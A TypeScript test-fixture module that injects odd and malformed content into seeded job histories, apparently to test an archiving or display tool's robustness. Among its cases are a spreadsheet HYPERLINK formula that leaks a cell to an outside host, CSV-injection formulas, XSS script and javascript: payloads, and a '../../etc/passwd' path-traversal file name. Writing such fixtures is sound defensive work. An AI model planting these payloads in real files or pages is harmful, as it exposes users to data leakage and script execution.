/** Unusual contents of real histories: a job gets at most one of these, in turn. */
import { csvFile, seededChart, seededTable, windowsTable } from './fixture-files.js';
import type { Answer, Topic } from '../fixtures.js';
import { type SeededJobPlace } from './seed-plan.js';
import { type FileContent } from './seeded-ids.js';
import type { JobDraft } from './job-draft.js';
import { sourcesOf } from './source-entries.js';

interface JobMatter {
  readonly topic: Topic;
  readonly answer: Answer;
  readonly datasetId: string;
}

type Oddity = (draft: JobDraft, matter: JobMatter) => void;

/** A placeholder in JSON text for a number without quotes that no double can represent. */
const BEYOND_DOUBLES = '{{digits:9007199254740993}}';

/** All can be archived without a gap. The demo has none of them: `serve --odd` has. */
const ODDITIES: readonly Oddity[] = [
  function emptyFile(draft) {
    draft.respond(
      'TABLE',
      draft.file('nothing found.csv', () => csvFile('')),
    );
  },
  function tableOfWindows(draft, { topic }) {
    draft.respond(
      'TABLE',
      draft.file('Excel export.csv', (key) => windowsTable(topic, key)),
    );
  },
  function controlCharacters(draft) {
    draft.respond(
      'MESSAGE',
      'Bell \u0007, NUL \u0000, tab \t, CR\r\nLF, escape \u001b[31m, U+FFFE \ufffe.',
    );
  },
  function formulas(draft) {
    draft.respond('MESSAGE', '=HYPERLINK("http://example.invalid/?leak="&A1,"open")');
    draft.respond('MESSAGE', '+1+1');
    draft.respond('MESSAGE', '@SUM(A1:A9)');
    draft.respond('MESSAGE', '_x0041_ and {"formula":"1+1"}');
  },
  function longText(draft, { answer }) {
    const line = `${answer.recalled} 🙂 `;
    draft.respond('MESSAGE', line.repeat(Math.ceil(41_000 / line.length)));
  },
  function emptyNullAbsent(draft) {
    draft.group('Nothing')('MESSAGE', '');
    draft.group('Nothing')('MESSAGE', null);
    draft.steps.push({ type: 'MESSAGE', stage: 'Analyze', group_id: '' });
  },
  function moreTypes(draft) {
    const step = draft.group('Tasks');
    step('TASK', { id: 1, title: 'Collect figures', status: 'done', subtasks: [] });
    step('CHART_INFO', {
      ...draft.file('chart.json', chartSpecification),
      chart_type: 'bar',
    });
    step('TRIGGER', { kind: 'schedule', at: '08:00', enabled: false });
    step('HOLOGRAM', { depth: 3, layers: [{ z: 0 }, { z: 1.5 }] });
  },
  function sourceSpelled(draft, { topic, datasetId }) {
    draft.respond('SOURCE', sourcesOf(topic, datasetId, draft.random));
  },
  function linkInText(draft, { topic }) {
    const { url } = draft.file('linked.csv', (key) => seededTable(topic, key));
    draft.respond('MESSAGE', `[Download the table](${url}) before it is gone.`);
  },
  function codeInQuestion(draft, { topic }) {
    draft.question.push({ type: 'CODE', content: topic.grouping });
  },
  function hostileText(draft) {
    draft.respond('MESSAGE', '<script>alert(1)</script> <img src=x onerror="alert(2)">');
    draft.respond('MESSAGE', '[click](javascript:alert(3)) & <b>bold</b> </textarea>');
  },
  function unknownFields(draft) {
    draft.replies.push({
      type: 'MESSAGE',
      content: 'Checked.',
      group_id: '-1',
      group_name: '',
      stage: 'Respond',
      score: 0.75,
      tags: ['a', 'b'],
      sequence: BEYOND_DOUBLES,
    });
  },
  function oddNames(draft, { topic }) {
    const table = (key: string): FileContent => seededTable(topic, key);
    draft.respond('TABLE', draft.file('../../etc/passwd', table, 'x1.csv'));
    draft.respond('TABLE', draft.file('CON', table, 'x2.csv'));
    draft.respond('TABLE', draft.file('é'.repeat(128), table, 'x3.csv'));
    draft.respond(
      'IMAGE',
      draft.file('=1+1', (key) => seededChart(topic, key), 'x4.png'),
    );
  },
  function bareBlocks(draft) {
    draft.replies.push({ type: 'MESSAGE', content: 'A block without a stage or a group.' });
    draft.group('')('CODE', 'print("no fence")');
  },
];

/** Contents that leave a gap. */
const GAPS: readonly Oddity[] = [
  function storageKey(draft) {
    draft.respond('TABLE', { name: 'kept.csv', url: 'tables/2026/kept.csv' });
  },
  function missingFile(draft) {
    draft.respond('TABLE', {
      name: 'gone.csv',
      url: '{{url:gone.csv}}',
      expires_at: '{{expires_at}}',
    });
  },
  function pageInsteadOfTable(draft) {
    const make = (): FileContent => csvFile('<!DOCTYPE html><html><body>Sign in</body></html>');
    draft.respond('TABLE', draft.file('page.csv', make));
  },
];

/** Half of the jobs stay ordinary. */
export function addOddity(draft: JobDraft, matter: JobMatter): void {
  inTurn(ODDITIES, draft.place, 2)?.(draft, matter);
}

/** One in four jobs gets a gap. */
export function addGap(draft: JobDraft, matter: JobMatter): void {
  inTurn(GAPS, draft.place, 4)?.(draft, matter);
}

function inTurn(
  oddities: readonly Oddity[],
  { user, session, job }: SeededJobPlace,
  every: number,
): Oddity | undefined {
  const turn = user * 37 + session * 11 + job;
  return turn % every === 0 ? oddities[(turn / every) % oddities.length] : undefined;
}

function chartSpecification(key: string): FileContent {
  const specification = { type: 'bar', data: [['North', 12]], key };
  return { bytes: Buffer.from(JSON.stringify(specification)), mediaType: 'application/json' };
}
